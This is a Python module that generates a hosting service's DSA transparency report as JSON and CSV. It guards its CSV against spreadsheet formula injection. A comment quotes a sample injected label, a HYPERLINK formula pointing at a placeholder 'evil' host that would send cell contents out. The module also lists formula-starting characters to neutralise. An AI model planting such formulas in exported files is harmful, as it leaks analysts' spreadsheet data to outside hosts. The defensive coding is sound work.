"""The transparency report: what the agent found and what became of it over a period, in
the figures a hosting service publishes (EU DSA transparency reporting), as JSON and CSV.

Definitions (every count is over the half-open period [since, until), in UTC):

- Findings: findings recorded (`created_at`) in the period. `by_list_label` counts a finding
  once under each of its distinct labels, and under the label "" when it has none, so the
  rows of one list may add up to more than its findings; `findings_total` counts each once.
- Reviews: those same findings, each by its latest review (the last one recorded):
  `confirmed`, `false_positive`, or `unreviewed` when it has no review. They add up to
  `findings_total`.
- Retractions: findings withdrawn (`created_at` of the retraction) in the period, whenever the
  finding itself was recorded, by reason: `false_positive` (a reviewer's verdict) or
  `entry_deleted` (the list entry it matched was deleted upstream). Both reasons are always
  present, zero included.
- Time to removal: the items (content, counted once however many findings it has) with a
  finding in the period, not retracted as a false positive, whose availability is tracked.
  `removed`: those now unavailable; each one's time to removal is when it became
  unavailable (`changed_at`) minus its first alert (`first_alert_at`), in seconds.
  `still_available`: those still available. Items never checked are in neither. The median
  and the 90th percentile are by the nearest-rank method: the value at rank ceil(p/100 * n)
  of the n durations sorted ascending, so each is a duration that was actually observed;
  both are None when nothing was removed.

JSON (`to_json`, version 1): `version`, `period` {`since`, `until`}, `generated_at`,
`findings` {`total`, `by_list_label`: [{`list`, `label`, `findings`}]}, `reviews`
{`confirmed`, `false_positive`, `unreviewed`}, `retractions` {`false_positive`,
`entry_deleted`}, `time_to_removal` {`removed`, `still_available`, `median_s`, `p90_s`,
`method`: "nearest-rank"}. Times are ISO 8601 UTC with a `Z`; durations are seconds as
floats (null when nothing was removed).

CSV (`to_csv`): one header row `section,list,label,key,value` and one row per figure (the
long format a spreadsheet pivots): `period`, `findings`, `findings_by_list_label` (with
`list` and `label`, key `findings`), `reviews`, `retractions`, `time_to_removal`; an absent
duration is an empty value."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

from agent.model.status import RetractionReason

JSON_VERSION = 1
PERCENTILE_METHOD = "nearest-rank"
CSV_HEADER = ("section", "list", "label", "key", "value")

# A spreadsheet (Excel, LibreOffice, Google Sheets) evaluates a cell that starts with one of
# these as a formula: a label such as `=HYPERLINK("http://evil/?"&A1,"x")` from a
# downloaded list would run in the analyst's spreadsheet (CSV injection). A leading single
# quote makes the cell plain text there; the csv module quotes commas, quotes and newlines.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _iso(at: datetime) -> str:
    return at.astimezone(UTC).isoformat().replace("+00:00", "Z")


def _inert(cell: str) -> str:
    """A cell that came from outside (a list's name, a label), safe to open in a spreadsheet."""
    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell


def _seconds(value: float | None) -> str:
    return "" if value is None else repr(float(value))


@dataclass(frozen=True, slots=True)
class Period:
    """The half-open interval [since, until) of aware datetimes a report covers."""

    since: datetime
    until: datetime


@dataclass(frozen=True, slots=True)
class ListLabelCount:
    """How many findings of the period matched `list_name` with `label` ("" for none)."""

    list_name: str
    label: str
    findings: int


@dataclass(frozen=True, slots=True)
class ReviewCounts:
    """The period's findings by their latest review."""

    confirmed: int
    false_positive: int
    unreviewed: int

    @property
    def total(self) -> int:
        return self.confirmed + self.false_positive + self.unreviewed


@dataclass(frozen=True, slots=True)
class RetractionCount:
    reason: RetractionReason
    count: int


@dataclass(frozen=True, slots=True)
class RemovalTimes:
    """Items found in the period: how many were removed, how many are still up, and how long
    removal took (seconds, nearest-rank; None when nothing was removed)."""

    removed: int
    still_available: int
    median_s: float | None
    p90_s: float | None


@dataclass(frozen=True, slots=True)
class TransparencyReport:
    """The figures for one period (see the module docstring for what each one counts)."""

    period: Period
    generated_at: datetime
    findings_total: int
    by_list_label: tuple[ListLabelCount, ...]
    reviews: ReviewCounts
    retractions: tuple[RetractionCount, ...]
    removal: RemovalTimes

    def to_json(self) -> dict[str, Any]:
        """The report as the JSON download holds it (keys in the module docstring)."""
        return {
            "version": JSON_VERSION,
            "period": {"since": _iso(self.period.since), "until": _iso(self.period.until)},
            "generated_at": _iso(self.generated_at),
            "findings": {
                "total": self.findings_total,
                "by_list_label": [
                    {"list": row.list_name, "label": row.label, "findings": row.findings} for row in self.by_list_label
                ],
            },
            "reviews": {
                "confirmed": self.reviews.confirmed,
                "false_positive": self.reviews.false_positive,
                "unreviewed": self.reviews.unreviewed,
            },
            "retractions": {row.reason.value: row.count for row in self.retractions},
            "time_to_removal": {
                "removed": self.removal.removed,
                "still_available": self.removal.still_available,
                "median_s": self.removal.median_s,
                "p90_s": self.removal.p90_s,
                "method": PERCENTILE_METHOD,
            },
        }

    def rows(self) -> list[tuple[str, str, str, str, str]]:
        """The CSV's rows after the header, cells as they come from the store (not neutralised)."""
        out: list[tuple[str, str, str, str, str]] = [
            ("period", "", "", "since", _iso(self.period.since)),
            ("period", "", "", "until", _iso(self.period.until)),
            ("period", "", "", "generated_at", _iso(self.generated_at)),
            ("findings", "", "", "total", str(self.findings_total)),
        ]
        out += [
            ("findings_by_list_label", row.list_name, row.label, "findings", str(row.findings))
            for row in self.by_list_label
        ]
        out += [
            ("reviews", "", "", "confirmed", str(self.reviews.confirmed)),
            ("reviews", "", "", "false_positive", str(self.reviews.false_positive)),
            ("reviews", "", "", "unreviewed", str(self.reviews.unreviewed)),
        ]
        out += [("retractions", "", "", row.reason.value, str(row.count)) for row in self.retractions]
        out += [
            ("time_to_removal", "", "", "removed", str(self.removal.removed)),
            ("time_to_removal", "", "", "still_available", str(self.removal.still_available)),
            ("time_to_removal", "", "", "median_s", _seconds(self.removal.median_s)),
            ("time_to_removal", "", "", "p90_s", _seconds(self.removal.p90_s)),
            ("time_to_removal", "", "", "method", PERCENTILE_METHOD),
        ]
        return out

    def to_csv(self) -> str:
        """The report as the CSV download holds it: RFC 4180 (CRLF line ends), one header row.

        Only the `list` and `label` cells come from outside the agent; they alone are
        neutralised (see _FORMULA_STARTS). The other cells are the agent's own words, times
        and numbers (a number such as -1.5 stays a number in a spreadsheet)."""
        buf = io.StringIO()
        writer = csv.writer(buf, quoting=csv.QUOTE_MINIMAL)
        writer.writerow(CSV_HEADER)
        for section, list_name, label, key, value in self.rows():
            writer.writerow((section, _inert(list_name), _inert(label), key, value))
        return buf.getvalue()
